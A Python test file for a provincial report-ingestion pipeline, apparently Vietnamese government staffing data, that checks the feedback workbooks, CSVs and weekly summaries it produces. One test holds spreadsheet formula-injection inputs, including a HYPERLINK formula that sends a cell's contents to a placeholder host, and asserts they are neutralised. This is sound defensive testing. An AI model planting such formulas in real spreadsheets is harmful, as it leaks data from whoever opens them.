"""Feedback a clerk can act on: real files through process_province, then the rendered feedback
workbook, CSV and weekly summary read back (exact next names, version in effect, the province a
wrong file belongs to, deadlines, only rejected rows, nothing that runs as a formula)."""

from __future__ import annotations

import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from python_calamine import CalamineWorkbook

from ingestion.feedback import weekly_summary
from ingestion.intake.sources import SourceError
from ingestion.province import process_province
from tests.support.feedback_files import header_of, summary_sections, table_of
from tests.support.forms import (
    OBSTACLE_HEADER,
    SECONDMENT_HEADER,
    STAFFING_HEADER,
    csv_bytes,
    drop,
    government_xlsx,
    obstacle_rows,
    secondment_rows,
    staffing_rows,
)

PP = "15"  # Lào Cai
OWNER = "68"  # Lâm Đồng
W36_ON_TIME = datetime(2025, 9, 5, 3, 0, tzinfo=UTC)  # Friday of W36, 10:00 in Vietnam
W36_LATE = datetime(2025, 9, 9, 2, 0, tzinfo=UTC)  # Tuesday after the Monday-noon deadline


def feedback(settings, name: str, week: str, province: str = PP) -> Path:
    return settings.feedback / province / week / f"{name}.phan_hoi.xlsx"


def staffing_w36(n: int, province: str = PP) -> list[list]:
    return staffing_rows(n, province=province, report="5/9/2025")


def test_feedback_lists_only_the_rejected_rows_with_key_and_sender_column(settings):
    header = list(STAFFING_HEADER)
    header[5] = "Số hiện có"
    rows = staffing_w36(40)
    rows[2][5] = "hai"
    form = government_xlsx(header, rows)
    drop(settings, PP, "bien_che_2025-W36.xlsx", form.data, received=W36_ON_TIME)
    process_province(settings, PP)

    path = feedback(settings, "bien_che_2025-W36.xlsx", "2025-W36")
    assert CalamineWorkbook.from_path(str(path)).sheet_names == ["Phản hồi"]
    block = header_of(path)
    assert block["Tệp"] == "bien_che_2025-W36.xlsx"
    assert block["Kết quả"] == "Chấp nhận một phần"
    assert block["Số dòng"] == "40 dòng số liệu: 39 dòng được chấp nhận, 1 dòng bị từ chối."
    assert block["Thời điểm nhận"] == "05/09/2025 10:00 (giờ Việt Nam)"
    assert block["Hạn nộp"].startswith("12:00 thứ Hai 08/09/2025")
    assert block["Đúng hạn hay muộn"] == "Đúng hạn."
    assert block["Bản có hiệu lực"].startswith("Tệp này là bản đang có hiệu lực")
    assert block["Tên tệp gửi lại"] == "bien_che_2025-W36_v2.xlsx"
    table = table_of(path)
    assert table[0] == ["Dòng", "Cột", "Khóa", "Giá trị", "Lỗi", "Cần sửa"]
    assert len(table) == 2  # the header and the one rejected row: accepted rows are not listed
    row, column, key, value, label, fix = table[1]
    assert (row, column, value, label) == (
        form.first_data_row + 2,
        "Số hiện có",
        "hai",
        "Số không hợp lệ",
    )
    assert key.startswith(rows[2][1]) and "số nguyên" in fix

    text = path.with_suffix(".csv").read_bytes()
    assert text.startswith(b"\xef\xbb\xbf")
    decoded = text.decode("utf-8-sig")
    assert "invalid_number" in decoded and "Số hiện có" in decoded
    assert "bien_che_2025-W36_v2.xlsx" in decoded


def test_a_rejected_v2_names_v3_and_the_version_that_stays_in_effect(settings):
    first = government_xlsx(STAFFING_HEADER, staffing_w36(30))
    drop(settings, PP, "nhan_su_2025-W36.xlsx", first.data, received=W36_ON_TIME)
    process_province(settings, PP)
    broken = staffing_w36(30)
    for row in broken[:20]:
        row[4] = -3  # most rows fail: the file is rejected whole
    second = government_xlsx(STAFFING_HEADER, broken)
    drop(settings, PP, "nhan_su_2025-W36_v2.xlsx", second.data, received=W36_LATE)
    process_province(settings, PP)

    path = feedback(settings, "nhan_su_2025-W36_v2.xlsx", "2025-W36")
    block = header_of(path)
    assert block["Kết quả"] == "Từ chối cả tệp: Số lượng âm"
    assert block["Tên tệp gửi lại"] == "nhan_su_2025-W36_v3.xlsx"
    assert "«nhan_su_2025-W36_v3.xlsx»" in block["Cần làm"]
    assert "_v2»" not in block["Cần làm"]
    assert block["Bản có hiệu lực"].startswith(
        "Tệp bị từ chối nên không thay thế bản trước. Bản vẫn có hiệu lực: "
        "nhan_su_2025-W36.xlsx (phiên bản 1"
    )
    assert block["Đúng hạn hay muộn"].startswith("Nộp muộn: sau hạn 21 giờ.")
    assert "vẫn tính là đúng hạn" in block["Đúng hạn hay muộn"]
    table = table_of(path)
    assert len(table) == 21 and {line[4] for line in table[1:]} == {"Số lượng âm"}


def test_a_duplicate_in_a_v2_advises_v3(settings):
    drop(
        settings,
        PP,
        "secondments_2025-W41.csv",
        csv_bytes(SECONDMENT_HEADER, secondment_rows(8, PP)),
        received=datetime(2025, 10, 10, 3, 0, tzinfo=UTC),
    )
    rows = secondment_rows(8, PP)
    rows[5][1] = rows[4][1]  # BP0004 twice
    drop(
        settings,
        PP,
        "secondments_2025-W41_v2.csv",
        csv_bytes(SECONDMENT_HEADER, rows),
        received=datetime(2025, 10, 11, 3, 0, tzinfo=UTC),
    )
    process_province(settings, PP)

    path = feedback(settings, "secondments_2025-W41_v2.csv", "2025-W41")
    block = header_of(path)
    assert block["Kết quả"] == "Chấp nhận một phần"
    assert block["Tên tệp gửi lại"] == "secondments_2025-W41_v3.csv"
    assert "secondments_2025-W41_v3.csv" in block["Cần làm"]
    assert block["Bản có hiệu lực"].endswith(
        "thay cho secondments_2025-W41.csv (phiên bản 1, nhận 10/10/2025 10:00)."
    )
    table = table_of(path)
    assert [line[0] for line in table[1:]] == [6, 7]
    assert all("_v2" not in line[5] for line in table[1:])
    assert {line[2] for line in table[1:]} == {"BP0004"}


def test_a_wrong_province_file_names_the_province_its_rows_belong_to(settings):
    # Both land in one run, the v2 listed first (bien_che < nhan_su): versions go in order.
    ours = csv_bytes(STAFFING_HEADER, staffing_w36(15))
    drop(settings, PP, "nhan_su_2025-W36.csv", ours, received=W36_ON_TIME)
    theirs = csv_bytes(STAFFING_HEADER, staffing_w36(124, province=OWNER))
    drop(settings, PP, "bien_che_2025-W36_v2.csv", theirs, received=W36_ON_TIME)
    process_province(settings, PP)

    block = header_of(feedback(settings, "bien_che_2025-W36_v2.csv", "2025-W36"))
    assert block["Kết quả"] == "Từ chối cả tệp: Tệp không thuộc tỉnh này"
    assert "124 trên 124 dòng của tệp ghi mã xã thuộc Lâm Đồng" in block["Cần làm"]
    assert "gửi nhầm tệp của Lâm Đồng" in block["Cần làm"]
    assert "Bản vẫn có hiệu lực: nhan_su_2025-W36.csv (phiên bản 1" in block["Bản có hiệu lực"]
    assert block["Tên tệp gửi lại"] == "bien_che_2025-W36_v3.csv"


def test_csv_and_xlsx_of_the_same_name_get_their_own_feedback(settings):
    rows = staffing_w36(5)
    drop(settings, PP, "bien_che_2025-W36.csv", csv_bytes(STAFFING_HEADER, rows))
    drop(settings, PP, "bien_che_2025-W36.xlsx", government_xlsx(STAFFING_HEADER, rows).data)
    process_province(settings, PP)
    folder = settings.feedback / PP / "2025-W36"
    names = sorted(p.name for p in folder.iterdir() if "phan_hoi" in p.name)
    assert names == [
        "bien_che_2025-W36.csv.phan_hoi.csv",
        "bien_che_2025-W36.csv.phan_hoi.xlsx",
        "bien_che_2025-W36.xlsx.phan_hoi.csv",
        "bien_che_2025-W36.xlsx.phan_hoi.xlsx",
    ]


def test_nothing_in_feedback_runs_as_a_formula_and_long_values_are_cut(settings):
    rows = staffing_w36(12)
    rows[0][3] = '=HYPERLINK("http://x.example/?"&A1,"bấm vào đây")'
    rows[1][3] = "@SUM(1+1)"
    rows[2][3] = "x" * 5000
    drop(settings, PP, "bien_che_2025-W36.csv", csv_bytes(STAFFING_HEADER, rows))
    process_province(settings, PP)

    path = feedback(settings, "bien_che_2025-W36.csv", "2025-W36")
    values = [line[3] for line in table_of(path)[1:]]
    assert values[0].startswith("'=HYPERLINK(") and values[1] == "'@SUM(1+1)"
    assert len(values[2]) <= 80 and values[2].endswith("…")
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<hyperlink" not in sheet
    text = path.with_suffix(".csv").read_text(encoding="utf-8-sig")
    assert "x" * 100 not in text
    lines = [line for line in text.splitlines() if "HYPERLINK" in line or "SUM(1+1)" in line]
    assert lines and all(",'=" in line or ",'@" in line or "\"'=" in line for line in lines)


def test_a_misnamed_file_is_filed_under_the_week_in_its_name_with_the_name_to_use(settings):
    drop(settings, PP, "bien_che_2025-W36.csv", csv_bytes(STAFFING_HEADER, staffing_w36(4)))
    received = datetime(2025, 9, 17, 2, 0, tzinfo=UTC)  # arrives in W38
    drop(settings, PP, "bien che 2025 W36.xlsx", b"anything", received=received)
    drop(settings, PP, "bao cao tuan.xlsx", b"x", received=received)
    process_province(settings, PP)

    registries = {
        r["file_name"]: r
        for r in (
            pq.read_table(p).to_pylist()[0] for p in (settings.staged / "files" / PP).iterdir()
        )
    }
    assert registries["bien che 2025 W36.xlsx"]["filed_week"] == "2025-W36"
    assert registries["bien che 2025 W36.xlsx"]["suggested_name"] == "bien_che_2025-W36_v2.xlsx"
    assert registries["bao cao tuan.xlsx"]["filed_week"] == "2025-W38"
    assert registries["bao cao tuan.xlsx"]["suggested_name"] is None

    block = header_of(feedback(settings, "bien che 2025 W36.xlsx", "2025-W36"))
    assert block["Đổi tên thành"] == "bien_che_2025-W36_v2.xlsx"
    assert "Xếp vào tuần 2025-W36" in block["Tuần báo cáo"] and "đọc được" in block["Tuần báo cáo"]
    other = header_of(feedback(settings, "bao cao tuan.xlsx", "2025-W38"))
    assert "tuần nhận tệp" in other["Tuần báo cáo"]
    assert "bien_che_2025-W38.xlsx" in other["Cần làm"]
    drop(settings, PP, "biet phai 2025 W38.csv", b"x", received=received)  # named and sent in W38
    process_province(settings, PP)
    same = header_of(feedback(settings, "biet phai 2025 W38.csv", "2025-W38"))
    assert "đọc được từ tên tệp" in same["Tuần báo cáo"]


def test_the_weekly_summary_names_missing_late_and_misnamed_files(settings):
    form = government_xlsx(STAFFING_HEADER, staffing_w36(10))
    drop(settings, PP, "bien_che_2025-W36.xlsx", form.data, received=W36_ON_TIME)
    drop(
        settings,
        PP,
        "biet_phai_2025-W36.csv",
        csv_bytes(SECONDMENT_HEADER, secondment_rows(6, PP)),
        received=W36_LATE,
    )
    drop(settings, PP, "vuong_mac_2025-W36.xlsx", b"PK\x03\x04 broken", received=W36_ON_TIME)
    drop(settings, PP, "vuong mac tuan 36 nam 2025.xlsx", b"x", received=W36_LATE)
    process_province(settings, PP)

    folder = settings.feedback / PP / "2025-W36"
    path = folder / "tong_hop_tuan_2025-W36.xlsx"
    sections = summary_sections(path)
    kinds = {row[0]: row for row in sections["1. Ba loại báo cáo của tuần"][1:]}
    assert kinds["Biên chế, nhân sự"][1] == "Đúng hạn"
    assert kinds["Biệt phái"][1] == "Nộp muộn (21 giờ)"
    assert kinds["Vướng mắc"][1] == "Chưa nộp (1 tệp bị từ chối)"
    assert kinds["Vướng mắc"][7] == "Gửi tệp «vuong_mac_2025-W36_v2.xlsx»."
    assert kinds["Biên chế, nhân sự"][3] == "bien_che_2025-W36.xlsx (phiên bản 1)"
    files = {row[0]: row for row in sections["2. Các tệp đã nhận cho tuần này"][1:]}
    assert files["vuong_mac_2025-W36.xlsx"][3] == "Từ chối cả tệp: Không đọc được tệp"
    assert "unreadable_file" in files["vuong_mac_2025-W36.xlsx"][6]
    misnamed = sections["3. Tệp có tên không đúng quy định (xếp vào tuần này)"]
    assert misnamed[1][0] == "vuong mac tuan 36 nam 2025.xlsx"
    assert misnamed[1][3] == "vuong_mac_2025-W36_v2.xlsx"  # the merged "rename to" cell
    text = (folder / "tong_hop_tuan_2025-W36.csv").read_text(encoding="utf-8-sig")
    assert "Chưa nộp" in text and "Nộp muộn" in text and "vuong_mac_2025-W36_v2.xlsx" in text


def test_the_summary_is_rewritten_only_when_a_file_of_its_week_lands(settings):
    drop(settings, PP, "bien_che_2025-W36.csv", csv_bytes(STAFFING_HEADER, staffing_w36(4)))
    process_province(settings, PP)
    path = settings.feedback / PP / "2025-W36" / "tong_hop_tuan_2025-W36.xlsx"
    stamp = path.stat().st_mtime_ns
    process_province(settings, PP)
    assert path.stat().st_mtime_ns == stamp
    drop(settings, PP, "vuong_mac_2025-W36.csv", csv_bytes(OBSTACLE_HEADER, obstacle_rows(3, PP)))
    process_province(settings, PP)
    kinds = summary_sections(path)["1. Ba loại báo cáo của tuần"]
    assert [row[1] for row in kinds[1:]][2] != "Chưa nộp"


def test_a_summary_that_failed_is_written_by_the_next_run(settings, monkeypatch):
    real = weekly_summary.write_summary

    def disk_full(*args):
        raise OSError("disk full")

    drop(settings, PP, "bien_che_2025-W36.csv", csv_bytes(STAFFING_HEADER, staffing_w36(4)))
    monkeypatch.setattr(weekly_summary, "write_summary", disk_full)
    with pytest.raises(SourceError, match="weekly summary: OSError: disk full"):
        process_province(settings, PP)  # the file is staged; its task fails visibly
    path = settings.feedback / PP / "2025-W36" / "tong_hop_tuan_2025-W36.xlsx"
    assert not path.exists()
    monkeypatch.setattr(weekly_summary, "write_summary", real)
    assert process_province(settings, PP).files_skipped == 1
    assert path.exists()


def test_registry_facts_are_read_once_per_task_and_not_at_all_when_nothing_lands(
    settings, monkeypatch
):
    from ingestion.stage.province_files import ProvinceFiles

    drop(settings, PP, "bien_che_2025-W36.csv", csv_bytes(STAFFING_HEADER, staffing_w36(4)))
    process_province(settings, PP)
    reads = []
    real = ProvinceFiles._read
    monkeypatch.setattr(ProvinceFiles, "_read", lambda self: reads.append(1) or real(self))
    process_province(settings, PP)  # nothing new: neither the registry nor a summary is read
    assert reads == []
    for n in (2, 3, 4):
        rows = staffing_w36(4)
        rows[0][4] = -1
        drop(settings, PP, f"bien_che_2025-W36_v{n}.csv", csv_bytes(STAFFING_HEADER, rows))
    process_province(settings, PP)
    assert reads == [1]
    block = header_of(feedback(settings, "bien_che_2025-W36_v4.csv", "2025-W36"))
    assert block["Tên tệp gửi lại"] == "bien_che_2025-W36_v5.csv"
    assert "thay cho bien_che_2025-W36_v3.csv" in block["Bản có hiệu lực"]
